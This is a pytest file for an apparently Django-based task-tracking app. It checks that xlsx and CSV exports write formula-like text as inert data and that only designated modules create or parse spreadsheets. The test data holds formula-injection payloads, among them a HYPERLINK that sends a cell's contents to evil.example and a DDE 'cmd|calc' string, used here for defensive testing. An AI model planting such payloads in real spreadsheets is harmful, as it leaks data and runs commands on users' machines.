"""No export writes a formula, no upload is parsed without bounds.

Every exporter is run on texts such as ``=HYPERLINK(…)`` and its files are checked cell by cell;
the source tree is searched for CSV writers or openpyxl workbooks created anywhere but
``dondoc/core/spreadsheet.py``, and for CSV readers or ``load_workbook`` anywhere but the bounded
readers ``dondoc/core/tabular.py`` and ``dondoc/core/xlsx_reader.py``.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from dondoc.core.spreadsheet import FORMULA_TRIGGERS
from dondoc.tasks import services

ATTACK = '=HYPERLINK("http://evil.example/?d="&B3,"Bấm vào đây")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]

ROOT = Path(__file__).resolve().parents[2]  # the dondoc package
WRITER_RE = re.compile(
    r"csv\.(?:writer|DictWriter)\s*\(|\bWorkbook\s*\(|openpyxl\s+import\s+[^\n]*\bWorkbook\b"
)
HELPER = ROOT / "core" / "spreadsheet.py"
#: Reading uploads: only the bounded readers parse CSV or open workbooks.
READER_RE = re.compile(r"csv\.(?:reader|DictReader)\s*\(|\bload_workbook\s*\(")
READERS = {ROOT / "core" / "tabular.py", ROOT / "core" / "xlsx_reader.py"}


def test_no_module_but_the_helper_creates_csv_writers_or_workbooks():
    offenders = []
    for path in ROOT.rglob("*.py"):
        if path == HELPER or "tests" in path.relative_to(ROOT).parts:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if WRITER_RE.search(line):
                offenders.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()}")
    assert offenders == [], "write spreadsheets through dondoc.core.spreadsheet:\n" + "\n".join(
        offenders
    )


def test_no_module_but_the_bounded_readers_parses_csv_or_opens_workbooks():
    offenders = []
    for path in ROOT.rglob("*.py"):
        if path in READERS or "tests" in path.relative_to(ROOT).parts:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if READER_RE.search(line):
                offenders.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()}")
    assert offenders == [], "read uploads through dondoc.core.tabular / xlsx_reader:\n" + (
        "\n".join(offenders)
    )


def assert_xlsx_has_no_formula(content: bytes) -> int:
    """Every cell of every sheet is data; returns how many hostile texts were found intact."""
    book = load_workbook(io.BytesIO(content))
    intact = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} is not quoted"
                    intact += ATTACK in cell.value
    return intact


def assert_csv_has_no_formula(content: bytes) -> int:
    text = content.decode("utf-8-sig")
    intact = 0
    for row in csv.reader(io.StringIO(text, newline="")):
        for field in row:
            assert not field.startswith(FORMULA_TRIGGERS), f"CSV field {field!r}"
            intact += ATTACK in field
    return intact


@pytest.fixture
def hostile(program, notice, most, clerk, reporter):
    task = services.create_task(
        program=program,
        content=ATTACK,
        assigned_on=dt.date(2025, 1, 22),
        deadline="-Quý I/2025",
        sources=[(notice, "@1", ATTACK)],
        leads=[most],
        by=clerk,
    )
    services.post_update(
        task,
        by=reporter,
        text=ATTACK,
        reported_on=dt.date(2025, 3, 1),
        recorded_on=dt.date(2025, 3, 1),
    )
    return task


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_task_list_exports_write_a_hostile_update_as_text(client, clerk, hostile, fmt):
    client.force_login(clerk)
    response = client.get(f"/tasks/export.{fmt}", {"as_of": "2025-04-10"})
    assert response.status_code == 200
    check = assert_xlsx_has_no_formula if fmt == "xlsx" else assert_csv_has_no_formula
    assert check(response.content) >= 2  # the content and the latest result


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_audit_exports_write_hostile_changes_as_text(client, clerk, hostile, fmt):
    client.force_login(clerk)
    response = client.get(f"/audit/export.{fmt}")
    assert response.status_code == 200
    check = assert_xlsx_has_no_formula if fmt == "xlsx" else assert_csv_has_no_formula
    check(response.content)


@pytest.mark.django_db
def test_the_agency_export_writes_hostile_tasks_as_text(client, clerk, hostile, most):
    client.force_login(clerk)
    response = client.get(f"/rounds/agency/{most.pk}/export.xlsx")
    assert response.status_code == 200
    assert assert_xlsx_has_no_formula(response.content) >= 1


def test_the_round_export_writes_hostile_rows_as_text():
    from dondoc.rounds.exports import Sheet, render_xlsx

    rows = [(1, ATTACK, *OTHERS)]
    content = render_xlsx([Sheet("Dữ liệu", [ATTACK, *OTHERS], rows)], title=ATTACK)
    assert assert_xlsx_has_no_formula(content) == 3  # title, heading, row


def test_the_quarterly_report_xlsx_writes_hostile_rows_as_text():
    from dondoc.reports.compose import Table
    from dondoc.reports.render_xlsx import render_xlsx

    table = Table(
        headings=["STT", ATTACK],
        widths_mm=[10, 100],
        rows=[["1", ATTACK], ["2", "- Đã ban hành Nghị định"], *[["3", text] for text in OTHERS]],
        numeric=[True, False],
    )
    content = render_xlsx([("Phụ lục 1", ATTACK, ATTACK, table, [6, 60])])
    assert assert_xlsx_has_no_formula(content) == 4  # title, subtitle, heading, row
    sheet = load_workbook(io.BytesIO(content))["Phụ lục 1"]
    assert sheet["B5"].value == "- Đã ban hành Nghị định"  # shown exactly as written


def test_the_import_templates_hold_no_formula():
    from dondoc.tasks.importers.template import template_csv, template_xlsx

    assert_xlsx_has_no_formula(template_xlsx())
    assert_csv_has_no_formula(template_csv())
